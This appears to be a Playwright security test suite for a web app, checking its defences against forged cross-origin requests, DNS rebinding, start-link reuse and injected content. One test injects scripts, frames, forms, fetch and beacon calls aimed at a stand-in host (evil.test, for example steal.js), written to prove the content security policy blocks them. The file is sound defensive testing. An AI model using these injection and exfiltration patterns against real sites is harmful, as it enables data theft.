import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { openStore } from '@pal/db/maintenance/open-store'
import { connectPage } from '@pal/db/pages/pages'
import { type APIRequestContext, type BrowserContext, expect, type Request } from '@playwright/test'

import { startAttacker, type Attacker } from './attacker.ts'
import { attack } from './attacks.ts'
import { atRest, watchRequests } from './in-window.ts'
import { type Product, startProduct, test as signedIn } from './product.ts'

const pages = [
  '/',
  '/campaigns',
  '/conversations',
  '/orders',
  '/products',
  '/ai-analytics',
  '/logs',
  '/settings',
  '/no/such/page',
]

const refusals = [403, 421]
const draft = { name: 'Forged', facebookPageId: '43' }

interface Store {
  readonly campaign: number
  /** Whatever a forged request could have changed, as the product itself tells it. */
  readonly content: () => Promise<unknown>
}

const test = signedIn.extend<{ attacker: Attacker; store: Store }, { product: Product }>({
  launchOptions: [
    // Every name of the test's leads to this machine, as a rebound one does.
    async ({ launchOptions }, use) => {
      const args = ['--host-resolver-rules=MAP *.test 127.0.0.1']
      await use({ ...launchOptions, args: [...(launchOptions.args ?? []), ...args] })
    },
    { scope: 'worker' },
  ],
  product: [
    async ({}, use) => {
      const dataDir = await mkdtemp(join(tmpdir(), 'pal-security-'))
      const store = await openStore(dataDir)
      for (const id of ['42', '43']) {
        await connectPage(store.db, { id, name: 'Honey', category: 'Shop', now: Date.now() })
      }
      await store.close()
      const product = await startProduct({ dataDir })
      await use(product)
      await product.stop()
      await rm(dataDir, { recursive: true, force: true })
    },
    { scope: 'worker' },
  ],
  attacker: async ({}, use) => {
    await using attacker = await startAttacker()
    await use(attacker)
  },
  store: async ({ request, product }, use) => {
    const headers = { origin: product.origin }
    const company = { companyName: 'Honey and Sons' }
    const saved = await request.put('/api/settings', { headers, data: { company } })
    expect(saved.status()).toBe(200)
    const create = async (data: object) => {
      const made = await request.post('/api/campaigns', { headers, data })
      expect(made.status()).toBe(200)
      return ((await made.json()) as { id: number }).id
    }
    const campaign = await create({ name: 'Winter', facebookPageId: '42' })
    await use({ campaign, content: () => contentOf(request) })
    // Our own page may do what the attacks tried.
    const forged = await create(draft)
    for (const id of [campaign, forged]) {
      expect((await request.post(`/api/campaigns/${id}/stop`, { headers })).status()).toBe(200)
      expect((await request.delete(`/api/campaigns/${id}`, { headers })).status()).toBe(200)
    }
  },
})

async function contentOf(request: APIRequestContext): Promise<unknown> {
  const read = async (path: string) => {
    const answer = await request.get(path)
    expect(answer.status(), path).toBe(200)
    return answer.json() as Promise<unknown>
  }
  const logs = (await read('/api/system/logs')) as unknown[]
  return {
    settings: await read('/api/settings'),
    campaigns: await read('/api/campaigns'),
    credentials: await read('/api/facebook/config-status'),
    // Others are added all the time; clearing would leave none.
    logsAreThere: logs.length > 0,
  }
}

/** What the pages of this context ask the product from now on. */
function requestsTo(context: BrowserContext, port: string) {
  const requests: Request[] = []
  context.on('request', (request) => {
    if (new URL(request.url()).port === port) requests.push(request)
  })
  return {
    /** The statuses of all answers that came back; a browser gives some of them to nobody. */
    statuses: async () => {
      const answers = await Promise.all(requests.map((request) => request.response()))
      return [...new Set(answers.flatMap((answer) => answer?.status() ?? []))].toSorted()
    },
    /** How many carried our session. */
    signedIn: async () => {
      const headers = await Promise.all(requests.map((request) => request.allHeaders()))
      return headers.filter(({ cookie }) => cookie?.includes('pal_session')).length
    },
    count: () => requests.length,
  }
}

/** Name of the attacker's page, and by which name it reaches for the product. */
const attacks = [
  ['another port of the same address, which the cookie goes along with', '127.0.0.1', '127.0.0.1'],
  ['localhost', 'localhost', '127.0.0.1'],
  ['another site', 'evil.test', '127.0.0.1'],
  ['another site, by the name localhost', 'evil.test', 'localhost'],
  ['another site, by the address 0.0.0.0', 'evil.test', '0.0.0.0'],
  ['another site, by a name of its own that leads here', 'evil.test', 'pal.evil.test'],
] as const

for (const [what, from, to] of attacks) {
  test(`a page of ${what} reads nothing and changes nothing [DT-09]`, async ({
    context,
    page,
    product,
    attacker,
    store,
  }) => {
    const { port } = new URL(product.origin)
    const before = await store.content()
    const style = /\/assets\/[^"]+\.css/.exec(await (await page.request.get('/')).text())?.[0] ?? ''
    expect(style).not.toBe('')
    await page.goto(`http://${from}:${attacker.port}/`)
    const requests = requestsTo(context, port)

    const aim = { origin: `http://${to}:${port}`, style, campaign: store.campaign, draft }
    expect(await page.evaluate(attack, aim)).toEqual([])

    for (const opened of context.pages()) {
      for (const frame of opened.frames()) {
        expect(await frame.content(), frame.url()).not.toContain('id="root"')
        expect(await frame.content(), frame.url()).not.toContain('Honey')
      }
    }
    expect(await store.content()).toEqual(before)
    expect(refusals).toEqual(expect.arrayContaining(await requests.statuses()))
    expect(requests.count()).toBeGreaterThan(20)
    // Its frames, forms and windows at least; of many others the browser tells no headers.
    if (from === to) expect(await requests.signedIn()).toBeGreaterThanOrEqual(3)
  })
}

test('a rebound name reads nothing, though its pages count as the same origin [DT-09]', async ({
  context,
  page,
  product,
  store,
}) => {
  const { port } = new URL(product.origin)
  const before = await store.content()
  const rebound = `http://evil.test:${port}`
  // The page came while the name still led to its own server.
  await page.route(`${rebound}/planted`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Win</title>' }),
  )
  await page.goto(`${rebound}/planted`)
  const requests = requestsTo(context, port)
  const aim = { origin: rebound, style: '/assets/none.css', campaign: store.campaign, draft }
  const gained = await page.evaluate(attack, aim)
  expect(gained.filter((gain) => !gain.startsWith('window: '))).toEqual([])
  // A window of the same origin can be read: it shows the refusal.
  expect(gained.join()).not.toContain('Honey')
  expect(gained.join()).toContain('host_not_served')
  expect(requests.count()).toBeGreaterThan(20)
  expect(await requests.statuses()).toEqual([421])
  expect(await store.content()).toEqual(before)
})

test('a start link that another page leads to stays unused for its owner [DT-05, DT-09]', async ({
  browser,
  context,
  product,
  attacker,
}) => {
  const link = await product.freshLink()
  for (const name of ['evil.test', '127.0.0.1']) {
    const page = await context.newPage()
    await page.goto(`http://${name}:${attacker.port}/`)
    const answered = page.waitForResponse(link)
    await page.evaluate((link) => {
      location.href = link
    }, link)
    expect((await answered).status()).toBe(403)
  }
  const fresh = await browser.newContext({ storageState: { cookies: [], origins: [] } })
  const own = await fresh.newPage()
  await own.goto(link)
  await expect(own.getByRole('heading', { level: 1 })).toHaveText('Dashboard')
  expect(own.url()).toBe(`${product.origin}/`)
  await fresh.close()
})

test('two products on one machine keep their sessions apart [DT-05]', async ({ page, product }) => {
  const other = await startProduct()
  try {
    await page.goto(other.startLink)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Dashboard')
    await page.goto(product.origin)
    const status = await page.evaluate(() => fetch('/api/settings').then(({ status }) => status))
    expect(status).toBe(200)
  } finally {
    await other.stop()
  }
})

test('what gets into the page runs no script and takes nothing out [DT-09]', async ({
  page,
  attacker,
}) => {
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Dashboard')
  const { ran, blocked, cookie } = await page.evaluate(async (foreign) => {
    const blocked = new Set<string>()
    document.addEventListener('securitypolicyviolation', (violation) =>
      blocked.add(violation.effectiveDirective),
    )
    const add = (html: string) => {
      const holder = document.createElement('div')
      holder.innerHTML = html
      document.body.append(holder)
    }
    const script = (fill: (element: HTMLScriptElement) => void) => {
      const element = document.createElement('script')
      fill(element)
      document.body.append(element)
    }
    script((element) => (element.textContent = 'window.ran = "inline"'))
    script((element) => (element.src = `${foreign}/steal.js`))
    script((element) => (element.src = 'data:text/javascript,window.ran="data"'))
    add('<img src="/none.png" onerror="window.ran = `handler`">')
    add(`<iframe src="${foreign}/frame"></iframe>`)
    add(`<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`)
    add(`<img src="${foreign}/steal.png"><object data="${foreign}/steal"></object>`)
    add(`<form action="${foreign}/form" method="post"><input name="a" value="b"></form>`)
    document.querySelector<HTMLFormElement>(`form[action^="${foreign}"]`)?.submit()
    add(`<base href="${foreign}/">`)
    await fetch(`${foreign}/fetch`, { mode: 'no-cors' }).catch(() => undefined)
    navigator.sendBeacon(`${foreign}/beacon`, 'x')
    // All of them, or what came in time.
    for (let waits = 0; waits < 50 && (waits < 7 || blocked.size < 8); waits += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    return {
      ran: Reflect.get(window, 'ran') as unknown,
      blocked: [...blocked].toSorted(),
      cookie: document.cookie,
    }
  }, `http://evil.test:${attacker.port}`)
  expect(ran).toBeUndefined()
  expect(cookie).toBe('')
  expect(attacker.seen).toEqual([])
  expect(blocked).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'object-src',
    'script-src-attr',
    'script-src-elem',
  ])
})

for (const colorScheme of ['light', 'dark'] as const) {
  test.describe(colorScheme, () => {
    test.use({ colorScheme })
    test('every page opens without a violation of the policy or any other error', async ({
      page,
    }) => {
      const complaints: string[] = []
      page.on('console', (message) => {
        if (message.type() === 'error' || message.type() === 'warning') {
          complaints.push(`${new URL(page.url()).pathname}: ${message.text()}`)
        }
      })
      page.on('pageerror', (error) => complaints.push(error.message))
      page.on('requestfailed', (request) => {
        // A page that is left drops what it was still reading.
        if (request.failure()?.errorText !== 'net::ERR_ABORTED') complaints.push(request.url())
      })
      await page.addInitScript(() =>
        document.addEventListener('securitypolicyviolation', (violation) =>
          console.error(`${violation.effectiveDirective} ${violation.blockedURI}`),
        ),
      )
      watchRequests(page)
      for (const path of pages) {
        await page.goto(path)
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
        await atRest(page)
      }
      expect(complaints).toEqual([])
    })
  })
}
